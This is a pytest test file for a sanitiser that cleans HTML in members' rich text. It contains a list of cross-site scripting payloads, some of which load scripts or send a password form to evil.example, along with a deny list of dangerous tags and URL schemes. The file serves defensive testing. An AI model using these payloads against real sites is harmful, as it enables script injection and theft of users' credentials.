"""Rich text of members: what comes through, and what never does."""

import pytest

from core.richtext import from_plain, sanitise, to_plain, to_typed

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<p onclick="alert(1)" style="background:url(javascript:alert(1))">text</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p><b>unclosed <script>alert(1)",
    '"><script>alert(1)</script>',
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
]
FORBIDDEN = (
    *("<script", "<img", "<svg", "<math", "<iframe", "<object", "<form", "<input", "<base"),
    *("<meta", "<link", "<style", "<template", "onerror=", "onclick=", "onload=", "style="),
    *("javascript:", "vbscript:", "data:"),
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives(attack):
    clean = sanitise(attack)
    # What is left as text is escaped; only real tags and attributes count.
    tags = "".join(part.split(">")[0] + ">" for part in f" {clean}".split("<")[1:]).lower()
    assert not [word for word in FORBIDDEN if word.lstrip("<") in tags], clean


@pytest.mark.parametrize(
    ("markup", "kept"),
    [
        ("<p>A <strong>bold</strong> claim</p>", "<p>A <strong>bold</strong> claim</p>"),
        ("<ul><li>one</li><li>two</li></ul>", "<ul><li>one</li><li>two</li></ul>"),
        ("<h1>Loud</h1><p>quiet</p>", "Loud<p>quiet</p>"),
        ("5 < 6 & 7 > 6", "5 &lt; 6 &amp; 7 &gt; 6"),
        ("  <p>x</p>  ", "<p>x</p>"),
        ("", ""),
    ],
)
def test_a_story_keeps_its_tags(markup, kept):
    assert sanitise(markup) == kept


@pytest.mark.parametrize("address", ["https://example.org/a", "mailto:jana@example.org"])
def test_a_link_stays_and_vouches_for_nothing(address):
    clean = sanitise(f'<a href="{address}" target="_top" class="x">there</a>')
    assert clean == f'<a href="{address}" rel="nofollow noopener ugc">there</a>'


def test_sanitising_again_changes_nothing():
    for attack in ATTACKS:
        assert sanitise(sanitise(attack)) == sanitise(attack)


@pytest.mark.parametrize(
    ("typed", "markup"),
    [
        ("One.\n\nTwo.", "<p>One.</p><p>Two.</p>"),
        ("Two lines\nof one.", "<p>Two lines of one.</p>"),
        ("- one\n- two", "<ul><li>one</li><li>two</li></ul>"),
        ("Done:\n- one\n- two", "<p>Done:</p><ul><li>one</li><li>two</li></ul>"),
        ("<b>5 & 6</b>", "<p>&lt;b&gt;5 &amp; 6&lt;/b&gt;</p>"),
        (" \n \n ", ""),
    ],
)
def test_plain_text_becomes_paragraphs_and_lists(typed, markup):
    assert from_plain(typed) == markup


@pytest.mark.parametrize("typed", ["One.\n\nTwo.", "- one\n- two", "Say 5 < 6 & mean it."])
def test_what_was_typed_comes_back_to_the_form(typed):
    assert to_typed(from_plain(typed)) == typed


def test_plain_words_of_markup():
    assert to_plain("<p>A&nbsp;<b>b</b></p><ul><li>c</li><li>d</li></ul>") == "A\xa0b\nc\nd"
